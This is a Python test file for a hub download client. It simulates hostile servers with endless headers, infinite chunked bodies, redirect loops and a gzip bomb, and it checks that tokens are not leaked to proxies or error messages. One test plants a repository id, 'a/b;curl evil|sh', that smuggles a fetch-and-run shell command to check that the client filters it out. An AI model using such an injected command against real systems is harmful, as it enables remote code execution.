"""What a Hub may do byte by byte: nothing of it lasts, fills memory, or shows the token around."""

from __future__ import annotations

import gzip
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from threading import Thread

import pytest

from tests.hub.fakehub import FakeHub
from ticketctl.errors import HubError, UsageError
from ticketctl.hub import client, session
from ticketctl.hub.names import HubName, parse

NAME = HubName("ada/t", "a" * 40)
OK, MOVED, GONE = (
    b"HTTP/1.1 200 OK\r\n",
    b"HTTP/1.1 302 Found\r\nLocation: /x\r\n",
    b"HTTP/1.1 404 Not Found\r\n",
)
Talk = Callable[[socket.socket, bytes], object]


@contextmanager
def speaking(talk: Talk) -> Iterator[tuple[int, list[bytes]]]:
    """A port at which `talk` answers every request, and what it was asked."""
    heard: list[bytes] = []

    def one(line: socket.socket) -> None:
        with line, suppress(OSError):
            while head := line.recv(1 << 16):
                heard.append(head)
                talk(line, head)

    def serve() -> None:
        with suppress(OSError):
            while True:
                Thread(target=one, args=(door.accept()[0],), daemon=True).start()

    with socket.create_server(("127.0.0.1", 0)) as door:
        server = Thread(target=serve, daemon=True)
        server.start()
        try:
            yield door.getsockname()[1], heard
        finally:  # closing alone would leave it waiting at a number that the next one's door may have
            with suppress(OSError):  # not every system shuts what only listens
                door.shutdown(socket.SHUT_RDWR)
            server.join(5)


def dripping(begin: bytes, piece: bytes, every: float = 0.02) -> Talk:
    """`begin`, and then the same again and again."""

    def talk(line: socket.socket, _: bytes) -> None:
        line.sendall(begin)
        while True:
            line.sendall(piece)
            time.sleep(every)

    return talk


def endless(begin: bytes) -> Talk:
    """A body without end."""
    return dripping(begin + b"Transfer-Encoding: chunked\r\n\r\n", b"10000\r\n" + b"[" * 65536 + b"\r\n", 0)


def moved_to(path: str, there: Talk, code: bytes = b"302 Found") -> Talk:
    """Leads everything to `path`, where `there` answers."""

    def talk(line: socket.socket, head: bytes) -> object:
        if head.split(b" ")[1] == path.encode():
            return there(line, head)
        answer = b"HTTP/1.1 " + code + b"\r\nContent-Length: 0\r\nLocation: " + path.encode() + b"\r\n\r\n"
        return line.sendall(answer)

    return talk


def replying(body: bytes, begin: bytes = OK) -> Talk:
    """One answer for all."""
    return lambda line, _: line.sendall(begin + b"Content-Length: %d\r\n\r\n" % len(body) + body)


def bring(hub: client.Hub) -> object:
    return list(hub.blocks(NAME, "a.bin"))


def ask(hub: client.Hub) -> object:
    return hub.commit(parse("ada/t@v1"))


CASES: dict[str, tuple[Talk, Callable[[client.Hub], object], str]] = {
    "one header after another": (dripping(OK, b"X: y\r\n"), ask, "the end of an answer's head"),
    "one header after another before a file": (dripping(OK, b"X: y\r\n"), bring, "the end of an answer's head"),
    "please go on, for ever": (dripping(b"", b"HTTP/1.1 100 Continue\r\n\r\n"), ask, "the end of an answer's head"),
    "a slow list": (
        dripping(OK + b"Transfer-Encoding: chunked\r\n\r\n", b"64\r\n" + b" " * 100 + b"\r\n"), ask,
        "the end of an answer"),
    "endless where it leads": (moved_to("/x", endless(OK)), ask, f"more than {session.MOST} bytes"),
    "endless where a file's name leads": (moved_to("/resolve/x", endless(OK)), ask, f"more than {session.MOST}"),
    "endless on the way": (endless(MOVED), ask, f"more than {session.MOST_ASIDE} bytes"),
    "endless on the way to a file": (endless(MOVED), bring, f"more than {session.MOST_ASIDE} bytes"),
    "a file's refusal without end": (endless(GONE), bring, f"more than {session.MOST_ASIDE} bytes"),
}  # fmt: skip


@pytest.fixture
def asked(desk: FakeHub, monkeypatch: pytest.MonkeyPatch) -> Callable[[int], None]:
    """The environment of `desk`, led to a port of one's own."""
    return lambda port: monkeypatch.setenv("HF_ENDPOINT", f"http://127.0.0.1:{port}")


@pytest.mark.parametrize("name", CASES)
def test_what_has_no_end_is_given_up_soon(
    asked: Callable[[int], None], name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    talk, do, says = CASES[name]
    monkeypatch.setenv("HF_HUB_DOWNLOAD_TIMEOUT", "1.0")
    monkeypatch.setattr(session, "HEAD_WAITS", 1)
    if name == "a slow list":
        monkeypatch.setattr(session, "BODY_WAITS", 1)
    began = time.monotonic()
    with speaking(talk) as (port, _):
        asked(port)
        with pytest.raises(HubError, match=says), client.connect() as hub:
            do(hub)
    assert time.monotonic() - began < 8


def test_a_refusal_is_not_unpacked(asked: Callable[[int], None], monkeypatch: pytest.MonkeyPatch) -> None:
    def unpack(*_: object) -> bytes:
        raise AssertionError("it was unpacked")

    monkeypatch.setattr("httpx2._decoders.GZipDecoder.decode", unpack)
    begin = b"HTTP/1.1 403 Forbidden\r\nContent-Encoding: gzip\r\n"
    with speaking(replying(gzip.compress(b"\0" * 100_000), begin)) as (port, _):
        asked(port)
        with pytest.raises(HubError, match="no right to read"), client.connect() as hub:
            ask(hub)


@pytest.mark.parametrize("variable", ["HTTP_PROXY", "http_proxy", "ALL_PROXY"])
def test_a_proxy_is_not_told_the_token_of_a_hub_on_this_machine(
    asked: Callable[[int], None], monkeypatch: pytest.MonkeyPatch, variable: str
) -> None:
    info = b'{"id": "ada/t", "sha": "%s"}' % (b"a" * 40)
    with speaking(replying(info)) as (port, heard), speaking(replying(info)) as (proxy, overheard):
        asked(port)
        monkeypatch.setenv(variable, f"http://127.0.0.1:{proxy}")
        with client.connect() as hub:
            assert hub.commit(parse("ada/t")) == "a" * 40
    assert b"Bearer" in heard[0]
    assert overheard == []


def test_what_is_meant_for_https_goes_by_the_proxy_and_tells_it_no_token(
    asked: Callable[[int], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    with speaking(replying(b"", b"HTTP/1.1 403 no\r\n")) as (proxy, overheard):
        monkeypatch.setenv("HF_ENDPOINT", "https://hub.invalid")
        monkeypatch.setenv("HTTPS_PROXY", f"http://127.0.0.1:{proxy}")
        with pytest.raises(HubError), client.connect() as hub:
            ask(hub)
    assert overheard[0].startswith(b"CONNECT hub.invalid:443")
    assert b"earer" not in b"".join(overheard)


@pytest.mark.parametrize(
    "url", ["https://ada:canary@hub.invalid", "http://127.0.0.1:1/?canary", "https://h/#canary"]
)
def test_an_endpoint_is_an_address_and_no_password(monkeypatch: pytest.MonkeyPatch, url: str) -> None:
    monkeypatch.setenv("HF_ENDPOINT", url)
    with pytest.raises(UsageError, match="HF_ENDPOINT") as refused, client.connect():
        pass
    assert "canary" not in str(refused.value)


def test_a_repository_that_no_one_could_type_is_not_found(desk: FakeHub, tmp_path: Path) -> None:
    desk.put("ada/t", {"README.md": b"---\ntags: [ticketctl]\n---\n"}, private=False)
    desk.fault("edit", "/api/models$", how=lambda rows: [*rows, {**rows[0], "id": "a/b;curl evil|sh"}])
    with client.connect() as hub:
        found = [one.repo for one in hub.search(["ticketctl"], words=None, author=None, most=9)]
    assert found == ["ada/t"]
